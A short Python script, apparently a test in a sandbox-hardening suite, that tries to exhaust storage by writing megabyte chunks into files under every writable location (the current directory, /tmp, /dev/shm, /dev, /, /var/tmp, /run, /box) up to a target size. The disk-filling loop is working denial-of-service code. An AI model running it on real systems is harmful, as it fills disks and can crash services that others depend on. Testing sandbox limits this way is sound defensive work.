"""Fills every place that it can write to."""

import contextlib
import os

from attack import GOAL, MIB, held

size = 0
for place in (".", "/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "/run", "/box"):
    for number in range(4):
        with contextlib.suppress(OSError):
            fd = os.open(os.path.join(place, f"filled-{number}"), os.O_WRONLY | os.O_CREAT, 0o600)
            while size < GOAL:
                size += os.write(fd, bytes(MIB))
held(size)
